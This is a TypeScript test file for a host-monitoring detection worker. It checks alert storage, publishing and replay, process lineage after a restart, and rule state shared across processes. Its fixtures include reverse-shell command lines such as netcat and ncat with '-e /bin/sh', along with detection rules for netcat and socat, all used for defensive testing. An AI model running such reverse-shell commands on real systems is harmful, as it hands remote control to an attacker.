// Detection of the scale-out roles in one process: the worker's stage raises the built-in netcat rule's
// alert, stores it, groups it and publishes it with its id as message id; after a restart a host's live processes
// are read from the event store on first sight (and again when its partition comes back), so lineage is whole; a replayed batch stores nothing new but
// publishes the same ids again (JetStream drops the repeats); a failed publish fails the stage (so the
// batch is redelivered). Shared rules: two processes' rule services on one PostgreSQL database, notices on
// an in-memory broadcast: an upload through one is run by the other's stage, a switch stops it, a change
// whose notice was lost is caught up by the next check, and concurrent changes of both end in one state.

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pino } from 'pino';
import { buildEvent, createBuildContext } from '../../src/agent/events.ts';
import { ProcessCache } from '../../src/agent/process-cache.ts';
import type { Bus, BusMessage, Subscription } from '../../src/bus/types.ts';
import type { Alert } from '../../src/detect/alerts.ts';
import { alertIdOf } from '../support/events.ts';
import { RuleService } from '../../src/detect/rule-service.ts';
import { DetectionStage } from '../../src/detect/stage.ts';
import type { VigilEvent } from '../../src/schema/event.ts';
import { loadRules, ruleRegistry } from '../../src/server/detection.ts';
import { apiRules, sharedRules, workerDetection, type RuleBus } from '../../src/server/role-detection.ts';
import { SqliteAlertStore } from '../../src/stores/alerts/sqlite.ts';
import type { StoredAlert } from '../../src/stores/alerts/types.ts';
import { SqlRuleStateStore } from '../../src/stores/rules/sql-rule-state-store.ts';
import { openSqliteDb } from '../../src/stores/sql/sqlite-db.ts';
import { SqliteIncidentStore } from '../../src/stores/incidents/sqlite.ts';
import type { ProcessNode } from '../../src/tree/process-tree.ts';
import { createTempDatabase } from '../support/postgres.ts';

const NETCAT_RULE = '5b1c7e2a-0d4f-4a6b-9c3e-7a1d00000001';
const log = pino({ level: 'silent' });

let dir: string;
let store: SqliteAlertStore;
let incidents: SqliteIncidentStore;

before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'vigil-role-detect-'));
  store = new SqliteAlertStore(join(dir, 'alerts.db'));
  await store.migrate();
  incidents = new SqliteIncidentStore(join(dir, 'alerts.db'));
  await incidents.migrate();
});

after(async () => {
  await incidents.close();
  await store.close();
  rmSync(dir, { recursive: true, force: true });
});

function processStarts(executable: string, args: string[], count: number): VigilEvent[] {
  const ctx = createBuildContext({
    hostId: 'host-1', agent: { id: 'host-1', hostname: 'h', tenantId: 'acme', version: 'test' },
    host: { os: { platform: 'linux', kernel: 'test' } }, cache: new ProcessCache('host-1', { maxEntries: 100 }),
  });
  const now = Date.now();
  return Array.from({ length: count }, (_, i) => buildEvent({
    type: 'process_start', timeMs: now, pid: 100 + i, ppid: 1, uid: 0, startTimeMs: now, executable, args, cwd: '/',
  }, ctx));
}

/** The built-in rules into `stage` (state in a throw-away SQLite file). */
async function builtinRules(stage: DetectionStage): Promise<RuleService> {
  const rules = new RuleService(ruleRegistry({}), await SqlRuleStateStore.open(openSqliteDb(join(dir, `rules-${Math.random()}.db`))), stage);
  loadRules(rules, { log, ruleDirs: [] });
  return rules;
}

function recordingBus(fail = false): Bus<StoredAlert> & { published: BusMessage<StoredAlert>[] } {
  const published: BusMessage<StoredAlert>[] = [];
  return {
    published,
    async publish(m) {
      if (fail) throw new Error('bus unavailable');
      published.push(m);
    },
    consume: () => { throw new Error('not used'); },
    close: async () => {},
  };
}

/** The worker's detection side on the SQLite stores; `nodes`: what the event store holds of a host's live processes. */
function worker(bus: Pick<Bus<StoredAlert>, 'publish'>, o: { nodes?: ProcessNode[]; reads?: string[]; partitions?: () => ReadonlyMap<number, number> } = {}) {
  return workerDetection({
    alerts: store, incidents, alertBus: bus, log,
    events: { processNodes: async (tenant, host) => { o.reads?.push(`${tenant}/${host}`); return o.nodes ?? []; } },
    rules: async (stage) => ({ rules: await builtinRules(stage), stop: async () => {} }),
    ...(o.partitions ? { partitions: o.partitions, partitionOf: () => 0 } : {}),
  });
}

test('worker stage: stores and publishes each alert; a replayed batch adds nothing to the store and republishes the same ids', async () => {
  const bus = recordingBus();
  const { stage } = await worker(bus);
  assert.equal(stage.required, true);
  const shells = processStarts('/usr/bin/nc', ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'], 2);
  const batch = [...processStarts('/usr/bin/ls', ['ls', '-l'], 3), ...shells];
  const ids = shells.map((e) => alertIdOf(NETCAT_RULE, e)).sort();
  const expected = ids.map((id) => `acme/${id}`); // message ids name the tenant: alert ids are unique per tenant only

  await stage.process(batch);
  assert.deepEqual(bus.published.map((m) => m.id).sort(), expected);
  assert.ok(bus.published.every((m) => m.subject === 'alerts.acme' && m.payload.status === 'open'));

  await stage.process(batch); // redelivered after a crash between the store write and the ack
  assert.deepEqual(bus.published.map((m) => m.id).sort(), [...expected, ...expected].sort(), 'same message ids again');
  const stored = (await store.list({ tenantId: 'acme', ruleId: NETCAT_RULE, limit: 10 })).alerts.map((a) => a.id).sort();
  assert.deepEqual(stored, ids, 'one row per alert');
  const grouped = await incidents.incidentOfAlert('acme', ids[0]);
  assert.ok(grouped, 'grouped into an incident');
});

test('worker stage: a failed publish fails the stage, so the batch is redelivered', async () => {
  const { stage } = await worker(recordingBus(true));
  await assert.rejects(stage.process(processStarts('/usr/bin/ncat', ['ncat', '-e', '/bin/bash', 'x', '1'], 1)), /bus unavailable/);
});

test('worker stage after a restart: a host\'s live processes are read from the event store on first sight, so the lineage holds the processes started before', async () => {
  const [shell] = processStarts('/usr/bin/nc', ['nc', '10.0.0.9', '4444', '-e', '/bin/sh'], 1);
  shell.process = { ...shell.process!, ppid: 4242, parent: { pid: 4242, entity_id: 'bash-before-restart' } };
  const bash: ProcessNode = {
    tenant_id: 'acme', host_id: 'host-1', entity_id: 'bash-before-restart', pid: 4242, ppid: 1, parent_entity_id: '', exe: '/bin/bash', cmdline: 'bash -i',
    start_ts: new Date(Date.now() - 3_600_000).toISOString(), exit_ts: null, exit_code: null, uid: 0, gid: 0, user_name: 'root', sha256: '', mitre: [], gtfobins: [], ver: 0,
  };
  const bus = recordingBus();
  const reads: string[] = [];
  let held = new Map([[0, 1]]); // partition 0, taken in this worker's first lease term
  const { stage } = await worker(bus, { nodes: [bash], reads, partitions: () => held });
  await stage.process([shell]);
  const alert = bus.published.find((m) => m.payload.rule.id === NETCAT_RULE)!.payload;
  assert.equal(alert.process?.entity_id, shell.process.entity_id);
  assert.deepEqual(alert.ancestors?.map((a) => a.executable), ['/bin/bash'], 'the parent started before the restart');
  await stage.process(processStarts('/usr/bin/ls', ['ls'], 1));
  assert.deepEqual(reads, ['acme/host-1'], 'read once per host');
  held = new Map();
  await stage.process([]); // the partition went to another worker: the host is forgotten
  held = new Map([[0, 2]]);
  await stage.process(processStarts('/usr/bin/ls', ['ls'], 1));
  assert.deepEqual(reads, ['acme/host-1', 'acme/host-1'], 'read again when its partition came back');
  held = new Map([[0, 4]]); // went to another worker and came back between two batches (terms 3 and 4 elsewhere)
  await stage.process(processStarts('/usr/bin/ls', ['ls'], 1));
  assert.deepEqual(reads, ['acme/host-1', 'acme/host-1', 'acme/host-1'], 'read again although no batch saw it gone');
  await stage.process(processStarts('/usr/bin/ls', ['ls'], 1));
  assert.equal(reads.length, 3, 'not read again while held in the same term');
});

/**
 * An in-memory broadcast of rule notices: publish returns at once, as on NATS (the handlers run after);
 * `settled()` waits for the handlers of what was published; `drop` loses the next notice (a missed message).
 */
function broadcast(): RuleBus & { drop: boolean; settled(): Promise<void> } {
  const followers = new Set<(m: BusMessage<unknown>) => Promise<void>>();
  let pending: Promise<unknown>[] = [];
  return {
    drop: false,
    async publish(m) {
      if (this.drop) { this.drop = false; return; }
      for (const f of followers) pending.push(f(m));
    },
    async settled() {
      while (pending.length) await Promise.all(pending.splice(0));
    },
    async follow(_filter, handler): Promise<Subscription> {
      followers.add(handler);
      return { stop: async () => { followers.delete(handler); } };
    },
  };
}

const CUSTOM = '7d1f3c2a-1111-4c4c-8a8a-00000000c0de';
const customRule = (id = CUSTOM, image = '/usr/bin/socat') => `title: custom ${image}
id: ${id}
level: high
logsource: { category: process_creation, product: linux }
detection:
  sel: { Image: '${image}' }
  condition: sel
`;

const WRITER = { tenantId: 'default', actor: 'user:test', mayRespond: false };

test('shared rules: an upload through one process runs in the other; a switch stops it; a lost notice is caught up', async () => {
  const db = await createTempDatabase('rules');
  const bus = broadcast();
  const raised: Alert[] = [];
  const detection = new DetectionStage({ rules: [], correlations: [] }, { write: async (a) => { raised.push(...a); } });
  const worker = await sharedRules(detection, { log, ruleDirs: [], postgres: db.url, bus, role: 'worker' });
  const api = await apiRules({ log, ruleDirs: [], postgres: db.url, bus });
  try {
    const socat = () => processStarts('/usr/bin/socat', ['socat', 'x'], 1);
    assert.ok(api.rules.list().some((r) => r.id === NETCAT_RULE), 'directory rules as before');
    const added = await api.rules.add(customRule(), WRITER);
    assert.deepEqual(added, { ok: true, ids: [CUSTOM] });
    await bus.settled();
    assert.equal(worker.rules.get(CUSTOM)?.info.origin, 'uploaded', 'the worker runs the upload');
    await detection.process(socat());
    assert.deepEqual(raised.map((a) => a.rule.id), [CUSTOM]);

    assert.equal(await api.rules.setEnabled(CUSTOM, false), true);
    await bus.settled();
    await detection.process(socat());
    assert.equal(raised.length, 1, 'switched off: no new alert');

    bus.drop = true; // the notice of the next change is lost
    assert.equal(await api.rules.setEnabled(CUSTOM, true), true);
    assert.equal(worker.rules.get(CUSTOM)?.info.enabled, false, 'not seen yet');
    await worker.rules.catchUp(); // the periodic check (or the next notice)
    assert.equal(worker.rules.get(CUSTOM)?.info.enabled, true);

    // A second API process starting now loads the state; then both change it concurrently.
    const api2 = await apiRules({ log, ruleDirs: [], postgres: db.url, bus });
    try {
      assert.equal(api2.rules.get(CUSTOM)?.info.enabled, true);
      const other = '7d1f3c2a-2222-4c4c-8a8a-00000000c0de';
      const [a, b] = await Promise.all([api.rules.add(customRule(other, '/usr/bin/ncat2'), WRITER), api2.rules.delete(CUSTOM)]);
      assert.ok(a.ok && b.ok);
      await bus.settled();
      for (const p of [api, api2, worker]) {
        assert.deepEqual(p.rules.list().filter((r) => r.origin === 'uploaded').map((r) => r.id), [other], 'every process ends in the stored state');
      }
    } finally {
      await api2.stop();
    }
  } finally {
    await api.stop();
    await worker.stop();
    await db.drop();
  }
});
